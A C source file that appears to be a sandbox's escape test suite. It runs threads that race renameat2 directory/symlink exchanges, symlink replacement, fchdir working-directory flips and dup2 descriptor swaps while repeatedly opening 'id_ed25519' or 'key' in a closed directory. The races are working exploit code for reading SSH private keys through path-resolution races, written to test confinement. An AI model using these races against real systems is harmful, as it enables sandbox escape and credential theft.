/* Swap directories under a name that does not change: a symbolic link exchanged with a real directory,
 * the thread's working directory, the descriptor that openat starts from, an ancestor that moves.
 * Escape: the secret, or a file of the hole, is read.
 * Trap: resolving a name twice; a working directory or descriptor table read before the call runs. */
#include "_attack.h"
#include <stdatomic.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static atomic_int stop;
static char *ev;
static char *pub, *lnk;
static int da, db, slot;

static long now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}
static int got(int fd)
{
    if (fd < 0)
        return 0;
    char *t = leak_fd(fd);
    if (t)
        ev = strdup(t);
    close(fd);
    return t != NULL;
}
static void *exchange(void *x)
{
    while (!stop)
        syscall(SYS_renameat2, AT_FDCWD, pub, AT_FDCWD, lnk, RENAME_EXCHANGE);
    return x;
}
static void *relink(void *x)
{
    char *tmp = join(pub, ".new");
    for (int i = 0; !stop; i++) {
        unlink(tmp);
        if (symlink(i & 1 ? "real" : lnk, tmp) == 0)
            rename(tmp, pub);
    }
    return x;
}
static void *change_dir(void *x)
{
    while (!stop) {
        (void)!fchdir(da);
        (void)!fchdir(db);
    }
    return x;
}
static void *change_fd(void *x)
{
    while (!stop) {
        dup2(da, slot);
        dup2(db, slot);
    }
    return x;
}
static int spin(void *(*f)(void *), int (*once)(void), char *why)
{
    pthread_t t;
    int won = 0, n = 0;
    pthread_create(&t, NULL, f, NULL);
    for (long end = now_ms() + 300; !won && now_ms() < end; n++)
        won = once();
    stop = 1;
    pthread_join(t, NULL);
    sprintf(why, "%d tries", n);
    if (won)
        strcpy(why, ev);
    return won;
}
static void decoy(const char *dir)
{
    mkdir(dir, 0700);
    int fd = open(join(dir, "/id_ed25519"), O_CREAT | O_WRONLY, 0600);
    (void)!write(fd, "decoy\n", 6);
    close(fd);
    fd = open(join(dir, "/key"), O_CREAT | O_WRONLY, 0600);
    (void)!write(fd, "decoy\n", 6);
    close(fd);
}
static int once_pub(void) { return got(open(join(pub, "/id_ed25519"), O_RDONLY)); }
static int once_pub_key(void) { return got(open(join(pub, "/key"), O_RDONLY)); }
static int once_rel(void) { return got((int)syscall(SYS_openat, AT_FDCWD, "id_ed25519", O_RDONLY, 0)); }
static int once_rel_key(void) { return got((int)syscall(SYS_openat, AT_FDCWD, "key", O_RDONLY, 0)); }
static int once_slot(void) { return got((int)syscall(SYS_openat, slot, "id_ed25519", O_RDONLY, 0)); }
static int once_slot_key(void) { return got((int)syscall(SYS_openat, slot, "key", O_RDONLY, 0)); }

static char *ssh_dir(void)
{
    char *s = strdup(arena("secret"));
    *strrchr(s, '/') = 0;
    return s;
}
static int exchange_with(char *why, const char *target, int (*once)(void))
{
    /* names of its own for each way: what the last one left may be a link into the closed place */
    pub = join(arena("project"), once == once_pub ? "/pub" : "/pub2");
    lnk = join(arena("project"), once == once_pub ? "/lnk" : "/lnk2");
    decoy(pub);
    unlink(lnk);
    if (symlink(target, lnk)) {
        strcpy(why, strerror(errno));
        return 0;
    }
    return spin(exchange, once, why);
}
static int t_exchange(char *why) { return exchange_with(why, ssh_dir(), once_pub); }
static int t_exchange_hole(char *why) { return exchange_with(why, arena("hole"), once_pub_key); }
static int t_relink(char *why)
{
    decoy(join(arena("project"), "/real"));
    pub = join(arena("project"), "/flip");
    lnk = ssh_dir();
    return spin(relink, once_pub, why);
}
static int fds(char *why, const char *closed, void *(*f)(void *), int (*once)(void))
{
    char *open_dir = join(arena("project"), "/real2");
    decoy(open_dir);
    da = open(open_dir, O_PATH | O_DIRECTORY);
    db = open(closed, O_PATH | O_DIRECTORY);
    slot = dup(da);
    if (da < 0 || db < 0) {
        strcpy(why, strerror(errno));
        return 0;
    }
    return spin(f, once, why);
}
static int t_cwd(char *why) { return fds(why, ssh_dir(), change_dir, once_rel); }
static int t_cwd_hole(char *why) { return fds(why, arena("hole"), change_dir, once_rel_key); }
static int t_fd(char *why) { return fds(why, ssh_dir(), change_fd, once_slot); }
static int t_fd_hole(char *why) { return fds(why, arena("hole"), change_fd, once_slot_key); }

int main(void)
{
    attempt("directory exchanged with a link", t_exchange, 1500);
    attempt("directory exchanged with a link to the hole", t_exchange_hole, 1500);
    attempt("link replaced", t_relink, 1500);
    attempt("working directory changes", t_cwd, 1500);
    attempt("working directory changes to the hole", t_cwd_hole, 1500);
    attempt("descriptor changes", t_fd, 1500);
    attempt("descriptor changes to the hole", t_fd_hole, 1500);
    return finish();
}
